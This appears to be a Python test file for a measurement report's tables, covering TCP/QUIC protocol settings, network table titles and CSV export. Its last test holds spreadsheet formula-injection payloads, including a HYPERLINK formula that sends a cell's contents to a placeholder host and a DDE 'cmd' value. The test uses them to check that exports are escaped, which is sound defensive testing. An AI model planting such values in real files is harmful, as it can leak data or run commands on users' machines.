"""The tables of a campaign's measurements."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pandas as pd
from support.analysis_truth import simulated_table

from analysis.report.section import ReportTable
from analysis.report.sections.measured import networks, protocols
from analysis.report.write import write_tables
from base.structure import unstructured
from eyelevel.simulate import Truth
from tuning.protocols import load

KNOWN = load()


def texts_of(settings: dict[str, dict[str, Any]]) -> pd.DataFrame:
    """The texts of Table 1 for a campaign with the protocols in `settings` (name → settings)."""
    campaign = simulated_table(Truth(sites=1, networks=("dsl",), protocols=("tcp", "quic"), runs=2))
    document = replace(campaign.document, settings=replace(campaign.settings, protocols=settings))
    return protocols(replace(campaign, document=document), list(settings)).texts


def test_keys_of_protocols_without_a_column_are_shown_where_they_are_set() -> None:
    keys = texts_of({name: unstructured(KNOWN[name]) for name in ("tcp", "quic")})["other keys"]
    assert keys.tolist() == ["-", "known_servers = true"]
    tcp = KNOWN["tcp"]
    kernel = {**tcp.client_sysctls, "net.ipv4.tcp_sack": "0"}
    keys = texts_of({"tcp": unstructured(replace(tcp, mss_bytes=1000, client_sysctls=kernel))})["other keys"]
    assert keys.tolist() == ["mss_bytes = 1000; net.ipv4.tcp_sack = 0 (browser)"]
    assert "other keys" not in texts_of({"tcp": unstructured(tcp)})


def test_only_networks_of_the_paper_are_headed_as_its_table() -> None:
    campaign = simulated_table(Truth(sites=1, networks=("dsl",), protocols=("tcp", "quic"), runs=2))
    assert networks(campaign, ["dsl"]).title == "Networks (the paper's Table 2)"
    assert networks(campaign, ["dsl", "geo"]).title == networks(campaign, ["geo"]).title == "Networks"


def test_a_name_that_is_a_formula_is_a_text_in_tables(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://a.example?"&A1,"x")', "@SUM(A1)", "+1+cmd|x!A0", "-2+3", "\t=1", "shop", "-5.5", "a=b"]
    data = pd.DataFrame({"site": names, "gain": [-0.5] * len(names)})
    write_tables([ReportTable("t", "", data, data)], tmp_path)
    read = pd.read_csv(tmp_path / "t.csv")
    assert read["site"].tolist() == [*(f"'{name}" for name in names[:5]), *names[5:]]
    assert read["gain"].tolist() == [-0.5] * len(names)
